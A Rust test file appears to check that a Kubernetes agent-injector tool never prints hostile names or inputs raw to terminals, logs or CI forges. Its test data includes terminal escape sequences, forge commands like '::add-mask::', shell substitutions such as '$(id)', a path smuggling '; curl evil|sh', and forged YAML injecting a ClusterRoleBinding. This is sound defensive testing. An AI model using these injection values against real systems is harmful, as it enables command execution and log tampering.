//! Names and other text of an input and names of files reach no terminal, log, comment, command or forge as they are: whatever a
//! pull request contains, a check of it prints no control character, and no line that a forge takes for a command.

use crate::program::{Folder, Ran, ran};
use serde_json::{Value, json};
use std::process::Command;

/// Control characters of a terminal, line breaks, commands of a forge, a shell's metacharacters, a change of direction.
const HOSTILE: &str = "x\u{1b}]0;owned\u{7}\r\n::add-mask::a\n  ::add-mask::b\u{202e}\u{9b}2J\u{7f}\u{2028}`id`$(id);'id'##[add-mask]c\t";

/// The same as the name of a file, at whose start a forge would look.
fn file(name: &str) -> String {
    format!("::add-mask::{}{name}", HOSTILE.replace('/', ""))
}

/// A document of JSON, with every character of a text that is not ASCII as an escape: YAML forbids some of them.
fn document(value: &Value) -> String {
    let mut text = String::new();
    for character in value.to_string().chars() {
        match character {
            ' '..='~' => text.push(character),
            _ => text += &format!("\\u{:04x}", u32::from(character)),
        }
    }
    text + "\n---\n"
}

fn annotation(name: &str) -> String {
    format!("agent-injector.contrib.mackerel.io/{name}")
}

/// A workload whose every name is hostile.
fn workload(annotations: Value) -> Value {
    json!({
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": HOSTILE, "namespace": HOSTILE, "annotations": {annotation(HOSTILE): HOSTILE, annotation("memo"): HOSTILE}},
        "spec": {
            "selector": {"matchLabels": {HOSTILE: HOSTILE}},
            "template": {
                "metadata": {"labels": {HOSTILE: HOSTILE}, "annotations": annotations},
                "spec": {
                    "serviceAccountName": HOSTILE,
                    "hostNetwork": true,
                    "containers": [{"name": HOSTILE, "image": HOSTILE, "resources": {"limits": {"cpu": "1", "memory": "1Gi"}, "requests": {"cpu": "1", "memory": "1Gi"}}}],
                },
            },
        },
    })
}

fn documents() -> String {
    let agent = json!({"name": "agent", "image": format!("r/{HOSTILE}/mackerel-container-agent:1"), "command": [HOSTILE],
        "env": [{"name": HOSTILE, "value": HOSTILE}, {"name": "MACKEREL_APIKEY", "value": HOSTILE}]});
    let mut present = workload(json!({}));
    present["spec"]["template"]["spec"]["containers"] = json!([agent]);
    let mut values = vec![
        workload(json!({})),
        workload(json!({annotation(HOSTILE): HOSTILE, annotation("wait-forr"): HOSTILE})),
        workload(json!({annotation("inject"): HOSTILE})),
        workload(json!({annotation("image"): HOSTILE})),
        workload(json!({annotation("api-key-secret-name"): HOSTILE})),
        workload(
            json!({annotation("memo"): HOSTILE, annotation("display-name"): HOSTILE, annotation("log-level"): HOSTILE}),
        ),
        workload(json!({annotation(&format!("env.{HOSTILE}")): HOSTILE})),
        workload(json!({annotation("wait-for"): HOSTILE})),
        workload(json!({annotation("ignore-warnings"): HOSTILE})),
        workload(
            json!({HOSTILE: HOSTILE, "agent-injector": {"contrib": {"mackerel": {format!("io/{HOSTILE}"): HOSTILE}}}}),
        ),
        present,
        json!({"apiVersion": HOSTILE, "kind": HOSTILE, "metadata": {"name": HOSTILE}}),
        json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "mackerel-container-agent", "namespace": HOSTILE}, "data": {HOSTILE: "eA=="}}),
        json!({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": HOSTILE, "namespace": HOSTILE}, "automountServiceAccountToken": false}),
    ];
    let mut unknown = workload(json!({annotation("inject"): "true"}));
    unknown["apiVersion"] = json!(format!("example.com/{HOSTILE}"));
    unknown["kind"] = json!(HOSTILE);
    values.push(unknown.clone());
    unknown["apiVersion"] = json!(format!("{HOSTILE}.example.com/v1"));
    unknown["spec"][HOSTILE] = unknown["spec"]["template"].take();
    values.push(unknown);
    let mut pod =
        workload(json!({annotation("status"): "injected", annotation("record"): HOSTILE}))["spec"]
            ["template"]
            .take();
    pod["apiVersion"] = json!("v1");
    pod["kind"] = json!("Pod");
    pod["metadata"]["name"] = json!(HOSTILE);
    pod["metadata"]["namespace"] = json!(HOSTILE);
    pod["metadata"]["ownerReferences"] =
        json!([{"apiVersion": HOSTILE, "kind": HOSTILE, "name": HOSTILE, "controller": true}]);
    pod["spec"]["containers"][0]["name"] = json!("mackerel-container-agent");
    pod["status"] = json!({"phase": "Running", "containerStatuses": [{"name": "mackerel-container-agent", "ready": false, "restartCount": 3,
        "state": {"waiting": {"reason": HOSTILE, "message": HOSTILE}}, "lastState": {"terminated": {"exitCode": 1, "reason": HOSTILE, "message": HOSTILE}}}]});
    values.push(pod);
    values.iter().map(document).collect()
}

/// Folders of a repository that an attacker has written.
fn repository() -> Folder {
    let folder = Folder::with(&[]);
    let web = document(&workload(json!({})));
    folder.write(&file("web.yaml"), &web);
    folder.write(&format!("all/{}", file(".yaml")), &documents());
    folder.write(
        &file("broken.yaml"),
        "kind: Deployment\na: [ ##teamcity[x]##[y]\n",
    );
    std::fs::write(
        folder.path(&file("binary.yaml")),
        b"kind: Deployment\n\xff\x1b",
    )
    .unwrap();
    let overlay = format!("overlay/{}; curl evil|sh", file(""));
    let kustomization = format!(
        "resources: [web.yaml]\npatches: [{{path: patch.yaml}}]\ncommonAnnotations: {{{}: x}}\n",
        annotation("memo")
    );
    folder.write(&format!("{overlay}/kustomization.yaml"), &kustomization);
    folder.write(&format!("{overlay}/web.yaml"), &web);
    folder.write(&format!("{overlay}/patch.yaml"), &web);
    let transformed = format!("transformed/{}; curl evil|sh", file(""));
    let transformer =
        "apiVersion: agent-injector.contrib.mackerel.io/v1alpha1\nkind: AgentInjector\n";
    folder.write(
        &format!("{transformed}/kustomization.yaml"),
        "resources: [web.yaml]\ntransformers: [t.yaml]\n",
    );
    folder.write(&format!("{transformed}/t.yaml"), transformer);
    folder.write(&format!("{transformed}/web.yaml"), &web);
    let chart = format!("chart/{}", file(""));
    folder.write(&format!("{chart}/Chart.yaml"), "name: x\n");
    folder.write(&format!("{chart}/templates/web.yaml"), &web);
    folder.write(
        &format!("configured/{}/agent-injector.yaml", file("")),
        &format!("{transformer}spec: {{agent: {{memo: text}}}}\n"),
    );
    folder.write(&format!("configured/{}/web.yaml", file("")), &web);
    folder.write(&format!("configured/wrong{}/agent-injector.yaml", file("")), &document(&json!({"apiVersion": HOSTILE, "kind": "AgentInjector", HOSTILE: HOSTILE, "spec": {HOSTILE: 1, "agent": {"image": HOSTILE}}})));
    folder.write(&format!("configured/wrong{}/web.yaml", file("")), &web);
    folder
}

/// True for a character that a terminal takes for more than a character.
fn is_raw(character: char) -> bool {
    let is_hidden = matches!(character, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}');
    character != '\n' && (character.is_control() || is_hidden)
}

/// Panics if a text has more than text.
#[track_caller]
fn assert_plain(situation: &str, text: &str) {
    for line in text.lines() {
        let raw = line.chars().find(|c| is_raw(*c));
        assert_eq!(raw, None, "{situation}: {line:?}");
        assert!(
            !line.trim_start().starts_with("::add-mask"),
            "{situation}: {line:?}"
        );
    }
}

#[track_caller]
fn assert_ran_plainly(folder: &Folder, args: &[&str], ran: &Ran) {
    let situation = format!("{args:?}");
    assert_plain(&format!("{situation} stdout"), &ran.stdout);
    assert_plain(&format!("{situation} stderr"), &ran.stderr);
    if folder.path("log").exists() {
        assert_plain(&format!("{situation} log"), &folder.read("log"));
    }
    assert!(ran.code.is_some_and(|code| code <= 2), "{situation}");
    assert!(!ran.stderr.contains("bug"), "{situation} {}", ran.stderr);
    assert!(!ran.stderr.contains("##"), "{situation} {}", ran.stderr);
}

const COMMANDS: &[&[&str]] = &[
    &["inject"],
    &["inject", "-v"],
    &["inject", "-q", "--strict"],
    &["inject", "--adopt"],
    &["inject", "--diff"],
    &["inject", "--check"],
    &["inject", "--check", "-v", "--diff"],
    &["inject", "--check", "--output", "json"],
    &["inject", "--check", "--output", "github"],
    &["inject", "--check", "--output", "gitlab"],
    &["inject", "--check", "--output", "sarif"],
    &["inject", "--output", "patch"],
    &["uninject", "-v"],
    &["uninject", "--check"],
    &["explain"],
    &["explain", "--strict"],
    &["explain", "--output", "json"],
    &["explain", "--output", "github"],
    &["explain", "--output", "gitlab"],
    &["explain", "--output", "sarif"],
    &["explain", "--resource", HOSTILE],
    &["rbac", "-v"],
    &["rbac", "--namespace", "shop"],
    &["status", "-v"],
    &["status", "--output", "json"],
];

#[test]
fn no_command_prints_a_hostile_name_as_it_is() {
    let folder = repository();
    let files = [
        file("web.yaml"),
        file("broken.yaml"),
        file("binary.yaml"),
        file("missing.yaml"),
    ];
    let inputs = ["all", "overlay", "transformed", "chart", "."].map(str::to_owned);
    let text = documents();
    let call = {
        let item = document(&workload(json!({annotation("inject"): "maybe"})));
        let annotated = item.replacen(
            "\"annotations\":{",
            "\"annotations\":{\"config.kubernetes.io/path\":\"a\\u001b]0;x\\u0007\\u000a::add-mask::b\",",
            1,
        );
        assert_ne!(item, annotated);
        let items = annotated.replace("\n---\n", "");
        format!("apiVersion: config.kubernetes.io/v1\nkind: ResourceList\nitems: [{items}]\n")
    };
    for command in COMMANDS {
        for more in [
            &[][..],
            &["--set=onError=skip"],
            &["--set=injection=annotated", "--log-file=log"],
        ] {
            for input in inputs.iter().chain(&files) {
                let args = [command, more, &["--", input]].concat();
                assert_ran_plainly(&folder, &args, &folder.run(&args));
            }
            let args = [command, more].concat();
            for text in [&text, &call] {
                assert_ran_plainly(&folder, &args, &folder.run_with(&args, text));
            }
        }
    }
}

#[test]
fn neither_a_configuration_nor_an_argument_is_printed_as_it_is() {
    let folder = repository();
    let configured = format!("configured/{}", file(""));
    let wrong = format!("configured/wrong{}", file(""));
    let (valid, invalid) = (
        format!("{configured}/agent-injector.yaml"),
        format!("{wrong}/agent-injector.yaml"),
    );
    let memo = folder.run(&["config", "validate", "--", &valid]);
    assert!(
        memo.code == Some(0) && memo.stdout.ends_with(": valid\n"),
        "{memo:?}"
    );
    let missing = file("missing");
    let option = format!("--{HOSTILE}");
    let set = format!("--set=agent.memo={HOSTILE}");
    let setting = format!("--set={HOSTILE}=x");
    for args in [
        &["config", "validate", "--", &valid][..],
        &["config", "validate", "--", &invalid],
        &["config", "validate", "--", &missing],
        &["inject", "--", &configured],
        &["inject", "--check", "--", &wrong],
        &["inject", "--check", "--", "configured"],
        &["explain", "--", &configured],
        &["policy", "--config", &valid],
        &["policy", "--config", &invalid],
        &["policy", &set],
        &["policy", "--name", HOSTILE],
        &["policy", "--object-selector", HOSTILE],
        &["inject", &setting, "-"],
        &["inject", "--config", &missing, "-"],
        &["inject", "--namespace", HOSTILE, "-"],
        &["inject", "--log-file", &missing, &option],
        &["inject", &option],
        &["inject", "--output", HOSTILE],
        &[&missing],
        &[&option],
        &["explain", "--reason", HOSTILE],
        &["wait-for", HOSTILE],
        &["man", HOSTILE],
        &["webhook", "certificate", "--service", HOSTILE, "-n", "a"],
    ] {
        assert_ran_plainly(&folder, args, &folder.run_with(args, documents()));
    }
    let mut command = folder.command(&["inject", "-"]);
    command.current_dir(folder.path(&configured));
    let ran = ran(command, documents().as_bytes());
    assert_ran_plainly(&folder, &["inject", "-"], &ran);
}

#[test]
fn git_applies_the_diff_of_a_file_with_such_a_name() {
    let names = [
        file("web.yaml"),
        "a\"b\\c\u{7f}.yaml".to_owned(),
        "日\u{202e}本.yaml".to_owned(),
    ];
    let web = document(&workload(json!({})));
    let [folder, other] = [(); 2].map(|()| Folder::with(&[]));
    for name in &names {
        folder.write(name, &web);
        other.write(name, &web);
    }
    let diff = folder.run(&["inject", "--diff", "."]);
    assert_plain("diff", &diff.stdout);
    for args in [&["init", "-q"][..], &["apply", "--whitespace=nowarn", "-"]] {
        let mut command = Command::new("git");
        command.current_dir(folder.root()).args(args);
        let ran = ran(command, diff.stdout.as_bytes());
        assert_eq!(ran.code, Some(0), "{ran:?}");
    }
    assert_eq!(other.run(&["inject", "-i", "."]).code, Some(0));
    for name in &names {
        assert_ne!(folder.read(name), web);
        assert_eq!(folder.read(name), other.read(name), "{name:?}");
    }
}

#[test]
fn rbac_leaves_out_a_name_that_is_none() {
    let forged = "shop\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: forged}\n---\n#";
    let only_right = |ran: &Ran| {
        assert_eq!(ran.code, Some(0), "{ran:?}");
        assert_eq!(ran.stdout.matches("\nkind: ").count(), 2, "{ran:?}");
        assert!(ran.stdout.contains("namespace: shop\n"), "{ran:?}");
        assert!(
            ran.stderr.contains("permissions for 1 ServiceAccount\n"),
            "{ran:?}"
        );
    };
    let right = "---\napiVersion: v1\nkind: Pod\nmetadata: {name: right, namespace: shop}\nspec: {containers: [{name: a, image: a}]}\n";
    for (field, name) in [
        ("namespace", forged),
        ("namespace", "$NAMESPACE"),
        ("serviceAccountName", forged),
        ("serviceAccountName", "<NAME>"),
        ("api-key-secret-name", forged),
        ("api-key-secret-name", "${NAME}"),
    ] {
        let mut pod = json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "web", "namespace": "blog"}, "spec": {"containers": [{"name": "a", "image": "a"}]}});
        let id = match field {
            "namespace" => {
                pod["metadata"][field] = json!(name);
                "invalid-name"
            }
            "serviceAccountName" => {
                pod["spec"][field] = json!(name);
                "invalid-name"
            }
            _ => {
                pod["metadata"]["annotations"] = json!({annotation(field): name});
                "invalid-annotation"
            }
        };
        let text = document(&pod) + right;
        let folder = Folder::with(&[]);
        let args = ["rbac", "--set=kubernetesVersion=1.33", "-"];
        let ran = folder.run_with(&args, &text);
        assert!(ran.stderr.contains("--> <stdin>:1:"), "{ran:?}");
        if id == "invalid-annotation" {
            assert!(ran.stderr.contains("error[invalid-annotation]"), "{ran:?}");
            assert_eq!((ran.code, &*ran.stdout), (Some(2), ""), "{ran:?}");
        } else {
            assert!(ran.stderr.contains("warning[invalid-name]"), "{ran:?}");
            only_right(&ran);
        }
        only_right(&folder.run_with(&[&args[..], &["--set=onError=skip"]].concat(), &text));
    }
}

/// clap prints wrong arguments.
#[test]
fn no_wrong_argument_is_printed_as_it_is() {
    let folder = Folder::with(&[]);
    let joined = format!("--strict={HOSTILE}");
    for arguments in [
        &[HOSTILE][..],
        &["inject", "--output", HOSTILE],
        &["inject", &joined],
        &["inject", &format!("--{HOSTILE}")],
        &["policy", "--namespace-selector", HOSTILE],
        &["policy", "--namespace-selector", "a=x\n::add-mask::y"],
        &["wait-for", HOSTILE],
        &["wait-for", "--timeout", HOSTILE, "a:1"],
    ] {
        let arguments = [arguments, &["--log-file=log"]].concat();
        let ran = folder.run(&arguments);
        assert_eq!(ran.code, Some(2), "{ran:?}");
        assert_ran_plainly(&folder, &arguments, &ran);
        let first = ran.stderr.lines().next().unwrap();
        assert!(first.contains('x'), "the value is in one line: {ran:?}");
    }
}
